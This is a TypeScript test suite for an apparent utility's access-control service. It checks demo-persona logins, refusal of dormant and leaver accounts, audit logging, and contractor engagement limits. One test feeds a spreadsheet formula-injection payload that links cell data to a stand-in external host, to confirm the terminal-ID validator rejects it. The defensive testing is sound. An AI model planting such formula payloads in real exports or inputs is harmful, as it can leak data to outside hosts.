import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { ConfigError, loadConfig } from '../../src/config.ts';
import { assignmentsBreakingRules } from '../../src/identity/assignments.ts';
import { login, outcomes, seededApp, testApp } from '../support/app.ts';
import { NOW, SP, TERMINALS, USERS, seedFixture } from '../support/fixture.ts';
import { ownerOf, STORES } from '../support/stores.ts';

/**
 * Logins that used to skip the checks (issue 14, part 4): the persona login opened any account, a leaver's
 * and a dormant account logged in, and a refused look-up was logged without the point asked for.
 */
for (const store of STORES) {
  describe(`login rules on ${store.name}`, () => {
    const w = seededApp(store);

    const persona = (userId: string) => w.app.inject({ method: 'POST', url: '/api/session', payload: { userId } });
    const refusals = async (userId: string) =>
      (
        await w.db.query<{ rule: string }>(
          `SELECT rule FROM governance_events WHERE action = 'session.login' AND outcome = 'refused' AND subject_id = $1 ORDER BY id`,
          [userId],
        )
      ).rows.map((r) => r.rule);

    test('the persona login opens only seeded demo personas: not another account of the same person, not one with an authenticator', async () => {
      await w.db.exec(`INSERT INTO accounts (user_id, person_id) VALUES ('u-cc-legacy', 'p-cc')`);
      const legacy = await persona('u-cc-legacy');
      assert.equal(legacy.statusCode, 401, legacy.body);
      assert.equal(legacy.json().error.code, 'login_failed');
      assert.deepEqual(await refusals('u-cc-legacy'), ['not_a_demo_persona']);

      await w.db.query(`UPDATE accounts SET totp_secret = 'JBSWY3DPEHPK3PXP' WHERE user_id = $1`, [USERS.serviceCentre]);
      const withTotp = await persona(USERS.serviceCentre);
      assert.equal(withTotp.statusCode, 401, withTotp.body);
      assert.deepEqual(await refusals(USERS.serviceCentre), ['account_has_credentials']);
      await w.db.query(`UPDATE accounts SET totp_secret = NULL WHERE user_id = $1`, [USERS.serviceCentre]);
      assert.equal((await persona(USERS.serviceCentre)).statusCode, 201, 'the control: the same persona without credentials');
    });

    test("a leaver's account (no person behind it) is refused at login by every method, and the refusal is evidence", async () => {
      const res = await persona(USERS.leaver);
      assert.equal(res.statusCode, 403, res.body);
      assert.equal(res.json().error.code, 'account_without_person');
      assert.deepEqual(await refusals(USERS.leaver), ['account_without_person']);
      const live = await w.db.query('SELECT 1 FROM sessions WHERE user_id = $1', [USERS.leaver]);
      assert.equal(live.rows.length, 0);
    });

    test('a dormant account is refused at login and stays dormant (the login does not revive it)', async () => {
      const old = new Date(NOW.getTime() - 91 * 86_400_000);
      await w.db.query('UPDATE accounts SET created_at = $2, last_login_at = $2 WHERE user_id = $1', [USERS.otherRetailer, old]);
      const res = await persona(USERS.otherRetailer);
      assert.equal(res.statusCode, 403, res.body);
      assert.equal(res.json().error.code, 'dormant_account');
      const { rows } = await w.db.query<{ last_login_at: Date | string }>('SELECT last_login_at FROM accounts WHERE user_id = $1', [USERS.otherRetailer]);
      assert.equal(new Date(rows[0]?.last_login_at ?? 0).getTime(), old.getTime());
      // One day fewer is not dormant: the boundary is the sweep's own.
      await w.db.query('UPDATE accounts SET created_at = $2, last_login_at = $2 WHERE user_id = $1', [
        USERS.otherRetailer,
        new Date(NOW.getTime() - 89 * 86_400_000),
      ]);
      assert.equal((await persona(USERS.otherRetailer)).statusCode, 201);
    });

    test('a refused look-up keeps the supply point asked for; one that fails in the store still leaves its event', async () => {
      // The access administrator holds no customer.read.
      const admin = await login(w.app, USERS.admin);
      const refused = await w.app.inject({ method: 'GET', url: `/api/supply-points/${SP.R3}?purpose=audit_review`, headers: { cookie: admin.cookie } });
      assert.equal(refused.statusCode, 403, refused.body);
      const event = async (requestId: string) =>
        (
          await w.db.query<{ outcome: string; refusal: string; supply_point_ids: string[]; query: unknown }>(
            'SELECT outcome, refusal, supply_point_ids, query FROM access_log WHERE request_id = $1',
            [requestId],
          )
        ).rows[0];
      const e1 = await event(String(refused.headers['x-request-id']));
      assert.deepEqual([e1?.outcome, e1?.refusal, e1?.supply_point_ids], ['refused', 'permission_not_granted', [SP.R3]]);

      const cc = await login(w.app, USERS.callCentre);
      const missing = '0299999999999999999999';
      const notFound = await w.app.inject({ method: 'GET', url: `/api/supply-points/${missing}?purpose=customer_inquiry`, headers: { cookie: cc.cookie } });
      assert.equal(notFound.statusCode, 404);
      const e2 = await event(String(notFound.headers['x-request-id']));
      const q2 = (typeof e2?.query === 'string' ? JSON.parse(e2.query) : e2?.query) as { supplyPointId?: string };
      assert.equal(q2.supplyPointId, missing);

      await ownerOf(w.db).exec('ALTER TABLE supply_points RENAME COLUMN meter_id TO meter_id_gone');
      try {
        const failed = await w.app.inject({ method: 'GET', url: `/api/supply-points/${SP.OWN_A}?purpose=customer_inquiry`, headers: { cookie: cc.cookie } });
        assert.equal(failed.statusCode >= 500, true, failed.body);
        const e3 = await event(String(failed.headers['x-request-id']));
        assert.deepEqual([e3?.outcome, e3?.refusal], ['refused', 'read_failed']);
      } finally {
        await ownerOf(w.db).exec('ALTER TABLE supply_points RENAME COLUMN meter_id_gone TO meter_id');
      }
    });

    test('once any account logs in with a password, the persona login is off for everyone', async () => {
      assert.equal((await persona(USERS.retail)).statusCode, 201, 'the control');
      await w.db.query(`UPDATE accounts SET password_hash = 'x' WHERE user_id = $1`, [USERS.compliance]);
      const res = await persona(USERS.retail);
      assert.equal(res.statusCode, 404, res.body);
      assert.equal(res.json().error.code, 'demo_login_disabled');
    });
  });
}

test('the persona login never runs beside single sign-on', () => {
  const sso = { GRIDWALL_OIDC_ISSUER: 'https://idp.example.jp', GRIDWALL_OIDC_CLIENT_ID: 'gridwall', GRIDWALL_PUBLIC_URL: 'https://gridwall.example.jp' };
  assert.equal(loadConfig({ ...sso }).demoLogin, false);
  assert.throws(
    () => loadConfig({ ...sso, GRIDWALL_DEMO_LOGIN: 'true' }),
    (e: unknown) => e instanceof ConfigError && /cannot be on with single sign-on/.test(e.message),
  );
  assert.equal(loadConfig({}).demoLogin, true, 'the control: the embedded demo');
});

for (const store of STORES.slice(0, 1)) {
  test(`a login's terminal ID is held to the registry's pattern, by every login route (${store.name})`, async () => {
    const { db, dispose } = await store.open();
    try {
      await seedFixture(db);
      const app = await testApp(db);
      const formula = '=HYPERLINK("http://x.example/"&A2,"open")';
      const demo = await app.inject({ method: 'POST', url: '/api/session', payload: { userId: USERS.retail, terminalId: formula } });
      assert.equal(demo.statusCode, 400, demo.body);
      const password = await app.inject({
        method: 'POST',
        url: '/api/session/password',
        payload: { userId: USERS.retail, password: 'x', code: '000000', terminalId: formula },
      });
      assert.equal(password.statusCode, 400, password.body);
      const { rows } = await db.query<{ n: number }>('SELECT count(*)::int AS n FROM sessions');
      assert.equal(rows[0]?.n, 0);
      assert.equal(
        (await app.inject({ method: 'POST', url: '/api/session', payload: { userId: USERS.retail, terminalId: TERMINALS.RETAIL } })).statusCode,
        201,
        'the control',
      );
      await app.close();
    } finally {
      await dispose();
    }
  });
}

for (const store of STORES) {
  test(`a contractor's staff act for a client only while their company is engaged by it (${store.name}) — review of issue 14`, async () => {
    const { db, dispose } = await store.open();
    try {
      await seedFixture(db);
      let now = NOW;
      const app = await testApp(db, { now: () => now, sessionCacheMs: 0 });
      const s = await login(app, USERS.retailContractor, TERMINALS.RETAIL);
      const me = async () =>
        (await app.inject({ method: 'GET', url: '/api/me', headers: { cookie: s.cookie } })).json<{ principalClass: string }>().principalClass;
      const lookup = () => app.inject({ method: 'GET', url: `/api/supply-points/${SP.OWN_A}?purpose=own_customer_service`, headers: { cookie: s.cookie } });
      assert.equal(await me(), 'affiliated_retail', 'the control: engaged by the affiliated retailer');
      assert.equal(outcomes((await lookup()).json())['holder_name'], 'shown');
      // The engagement ends in a minute; HR has not moved the company's staff.
      const end = new Date(NOW.getTime() + 60_000);
      await ownerOf(db).query(`UPDATE contractor_engagements SET valid_to = $1 WHERE contractor_organization_id = 'org-ctr'`, [end]);
      now = new Date(end.getTime() - 1);
      assert.equal(await me(), 'affiliated_retail', 'one millisecond before the end');
      now = end;
      assert.equal(await me(), 'unassigned', 'from the end of the engagement, whatever the assignment says');
      const after = await lookup();
      assert.equal(after.statusCode, 403, after.body);
      assert.equal(after.json().error.code, 'permission_not_granted', 'a grant counts for nobody without a side');
      await app.close();
    } finally {
      await dispose();
    }
  });
}

for (const store of STORES) {
  test(`stored assignments the rules refuse are found, not left to act (${store.name}) — review of issue 14`, async () => {
    const { db, dispose } = await store.open();
    try {
      await seedFixture(db);
      assert.deepEqual(await assignmentsBreakingRules(db, NOW), [], 'the fixture follows the rules');
      // The issue's row, written past SCIM: an affiliated employee acting for a rival.
      await db.query(`UPDATE staff_assignments SET retailer_code = 'R0002' WHERE person_id = 'p-retail'`);
      // A contractor company whose engagement ended.
      await ownerOf(db).query(`UPDATE contractor_engagements SET valid_to = $1 WHERE contractor_organization_id = 'org-ctr'`, [new Date(NOW.getTime() - 1000)]);
      const found = await assignmentsBreakingRules(db, NOW);
      assert.deepEqual(
        found.map((f) => [f.personId, f.userIds, [...f.problems]]),
        [
          ['p-rctr', [USERS.retailContractor], ['contractor_not_engaged']],
          ['p-retail', [USERS.retail], ['retailer_mismatch', 'side_retailer_mismatch']],
        ],
      );
    } finally {
      await dispose();
    }
  });
}
